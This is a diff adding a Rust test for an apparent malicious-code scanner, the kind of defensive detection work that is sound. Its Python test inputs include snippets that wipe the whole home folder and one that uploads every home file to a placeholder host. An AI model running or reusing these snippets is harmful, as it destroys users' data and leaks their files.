@@ -115,3 +115,24 @@ fn decoded_code_that_runs_is_found_in_any_form() {
         assert!(script("x.js", code).contains("hidden-payload"), "{code}\n{}", script("x.js", code));
     }
 }
+
+#[test]
+fn the_home_folder_as_a_whole_is_found_when_it_is_deleted_or_sent() {
+    for code in [
+        "import shutil, pathlib\nfor x in pathlib.Path.home().iterdir():\n    shutil.rmtree(x)\n",
+        "import shutil, pathlib\ndef f(base):\n    for entry in base.iterdir():\n        shutil.rmtree(entry, ignore_errors=True)\nf(pathlib.Path.home())\n",
+        "import shutil, os\nshutil.rmtree(os.path.expanduser('~'))\n",
+        "import shutil, pathlib\ndef f(base):\n    for entry in base.iterdir():\n        if entry.name != 'x':\n            shutil.rmtree(entry) if entry.is_dir() else entry.unlink()\nf(pathlib.Path.home())\n",
+        "import shutil, pathlib, platform\ndef f(base):\n    for entry in base.iterdir():\n        shutil.rmtree(entry)\nif any(w in platform.node() for w in ('a', 'b')):\n    f(pathlib.Path.home())\n",
+    ] {
+        assert!(script("x.py", code).contains("destroys"), "{code}\n{}", script("x.py", code));
+    }
+    let walk = "import os, requests\nfor root, dirs, files in os.walk(os.path.expanduser('~')):\n    for f in files:\n        text = open(os.path.join(root, f)).read()\n        requests.post('https://a.example.com', data=text)\n";
+    assert!(script("x.py", walk).contains("sends-secrets"), "{}", script("x.py", walk));
+    for code in [
+        "import shutil, pathlib\nshutil.rmtree(pathlib.Path.home() / '.cache' / 'x')\n",
+        "import pathlib, requests\nkey = (pathlib.Path.home() / '.config/x.json').read_text()\nrequests.post('https://a.example.com', data=key)\n",
+    ] {
+        assert_eq!(script("x.py", code), "", "{code}");
+    }
+}
